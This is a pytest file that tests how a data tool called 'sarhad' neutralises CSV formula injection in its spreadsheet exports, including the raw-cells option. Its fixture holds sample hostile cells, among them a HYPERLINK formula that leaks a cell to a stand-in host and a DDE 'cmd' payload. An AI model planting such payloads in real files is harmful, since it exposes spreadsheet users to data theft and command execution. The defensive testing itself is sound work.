"""CSV formula injection: the files sarhad writes for people to open in a spreadsheet (``export csv``,
``clusters export --format csv``) write a text cell that begins as a formula (``=``, ``+``, ``-``, ``@``, a tab,
a carriage return) with a single quote before it; numbers (a negative longitude, a figure) are written as they
are, and ``--raw-cells`` writes every cell as stored. A dataset's own format gives its rows back untouched.

The hostile cells come in through an imported ACLED file (made here from the synthetic fixture), on SQLite and
PostgreSQL.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from sarhad._internal.cells import neutralised
from sarhad.node import Node
from sarhad.reconcile.store import reconcile
from tests.conftest import run_cli
from tests.formats.csv_tables import read_table

ASSETS = Path(__file__).resolve().parents[1] / "assets" / "synthetic"

HOSTILE = {
    "notes": '=HYPERLINK("http://example.invalid/?leak="&A1,"details")',
    "location": "@SUM(1+1)",
    "admin2": "+cmd|' /C calc'!A0",
    "admin3": "-2+3",
    "source": "\t=1+1",  # the import strips the tab: "=1+1" is stored
}


def _hostile_file(tmp_path: Path) -> Path:
    """The synthetic ACLED file with its first row's text cells made formulas and placed west of Greenwich and
    south of the equator (so its coordinates are negative numbers), its fatalities 3."""
    table = read_table(ASSETS / "acled_synthetic.csv")
    header, row = table[0], table[1]
    for column, value in HOSTILE.items():
        row[header.index(column)] = value
    row[header.index("latitude")] = "-12.0464"
    row[header.index("longitude")] = "-77.0428"
    row[header.index("fatalities")] = "3"
    path = tmp_path / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(table[:3])
    return path


@pytest.fixture
def home(any_node: Node, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    """A node holding the hostile ACLED file's two rows, reconciled."""
    path = _hostile_file(tmp_path)
    home = any_node.settings.home
    code, _, err = run_cli(capsys, "--home", str(home), "import", "acled", str(path))
    assert code == 0, err
    reconcile(any_node.db, "PK")
    return home


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _export(capsys: pytest.CaptureFixture[str], home: Path, out: Path, *args: str) -> list[dict[str, str]]:
    code, _, err = run_cli(capsys, "--home", str(home), *args, "--out", str(out))
    assert code == 0, err
    return _rows(out)


def test_export_csv_neutralises_formula_cells_and_keeps_numbers(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = _export(capsys, home, tmp_path / "flat.csv", "export", "csv")
    [row] = [r for r in rows if r["source_id"] == "IRN4166"]
    assert row["summary"] == "'" + HOSTILE["notes"]
    assert row["place"] == "'" + HOSTILE["location"]
    assert row["admin2"] == "'" + HOSTILE["admin2"]
    assert row["sources"] == "'=1+1"
    # numbers stay numbers: a spreadsheet reads -12.0464 as a number, not as text
    assert (row["lat"], row["lon"], row["killed_best"]) == ("-12.0464", "-77.0428", "3")
    assert row["border_km"] != "" and not row["border_km"].startswith("'")
    # a cell that is no formula is as stored
    [other] = [r for r in rows if r["source_id"] != "IRN4166"]
    assert other["place"] == "Tehran" and not other["summary"].startswith("'")


def test_export_csv_raw_cells_writes_them_as_stored(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = _export(capsys, home, tmp_path / "raw.csv", "export", "csv", "--raw-cells")
    [row] = [r for r in rows if r["source_id"] == "IRN4166"]
    assert (row["summary"], row["place"], row["admin2"], row["sources"]) == (
        HOSTILE["notes"],
        HOSTILE["location"],
        HOSTILE["admin2"],
        "=1+1",
    )
    assert (row["lat"], row["lon"]) == ("-12.0464", "-77.0428")


def test_a_datasets_format_gives_the_hostile_cells_back_as_imported(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "again.csv"
    _export(capsys, home, out, "export", "acled")
    assert read_table(out) == read_table(_hostile_file(tmp_path))


def test_clusters_export_csv_neutralises_formula_cells(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = _export(capsys, home, tmp_path / "clusters.csv", "clusters", "export")
    [row] = [r for r in rows if r["lat"] == "-12.0464"]
    assert row["place"] == "'" + HOSTILE["location"]
    assert (row["lon"], row["killed_best"]) == ("-77.0428", "3")
    raw = _export(capsys, home, tmp_path / "raw.csv", "clusters", "export", "--raw-cells")
    [row] = [r for r in raw if r["lat"] == "-12.0464"]
    assert row["place"] == HOSTILE["location"]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+92 81 123", "'+92 81 123"),
        ("-5", "'-5"),  # text: a number column is never passed here
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Quetta", "Quetta"),
        ("", ""),
        (" =1+1", " =1+1"),
        ("a=b", "a=b"),
    ],
)
def test_a_text_cell_beginning_as_a_formula_gets_a_quote_before_it(text: str, written: str) -> None:
    assert neutralised(text) == written


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (("export", "acled", "--raw-cells"), "--raw-cells applies to csv only: acled writes every cell as stored"),
        (("export", "stix", "--raw-cells"), "--raw-cells applies to csv only: stix"),
        (("clusters", "export", "--format", "json", "--raw-cells"), "--raw-cells applies to --format csv only"),
    ],
)
def test_raw_cells_with_another_format_is_refused_before_anything_is_written(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], args: tuple[str, ...], said: str
) -> None:
    out = tmp_path / "out.file"
    code, _, err = run_cli(capsys, "--home", str(home), *args, "--out", str(out))
    assert code != 0
    assert said in " ".join(err.split())
    assert not out.exists()
